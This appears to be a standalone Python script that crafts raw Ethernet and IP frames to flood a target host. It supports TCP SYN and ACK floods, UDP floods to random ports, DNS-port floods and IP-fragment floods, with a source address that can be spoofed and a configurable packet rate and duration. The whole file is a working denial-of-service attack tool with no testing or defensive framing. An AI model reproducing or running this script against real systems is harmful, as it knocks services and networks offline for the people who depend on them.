"""Floods from an interface, by frames of its own: flood.py DEVICE HOSTMAC FROM TO KIND PORT RATE SECONDS. KIND: syn, ack, udp (from
many ports to many ports), dns (from many ports to PORT), fragment (first pieces of ever new datagrams). Every second one from
another source port. RATE: packets a second."""
import socket
import struct
import sys
import time

device, mac, source, target, kind = sys.argv[1:6]
port, rate, seconds = int(sys.argv[6]), int(sys.argv[7]), float(sys.argv[8])


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


ends = socket.inet_aton(source) + socket.inet_aton(target)


def frame(i):
    sport = 1024 + i % 64000
    # The checksum of UDP may be missing; of TCP nobody looks at it on the way.
    if kind in ("syn", "ack"):
        upper = struct.pack("!HHIIBBHHH", sport, port, i, i, 0x50, 2 if kind == "syn" else 16, 8192, 0, 0)
        protocol = 6
    else:
        dport = port if kind != "udp" else 1 + i % 60000
        upper = struct.pack("!HHHH", sport, dport, 8 + 24, 0) + b"x" * 24
        protocol = 17
    fragment = 0x2000 if kind == "fragment" else 0
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(upper), i & 0xFFFF, fragment, 64, protocol, 0)
    head = head[:10] + struct.pack("!H", checksum(head + ends)) + ends
    return bytes.fromhex(mac.replace(":", "")) + b"\x02\0\0\0\1\1" + b"\x08\0" + head + upper


s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((device, 0))
began, i = time.monotonic(), 0
while time.monotonic() - began < seconds:
    for _ in range(32):
        try:
            s.send(frame(i))
        except OSError:
            pass
        i += 1
    ahead = i / rate - (time.monotonic() - began)
    if ahead > 0:
        time.sleep(ahead)
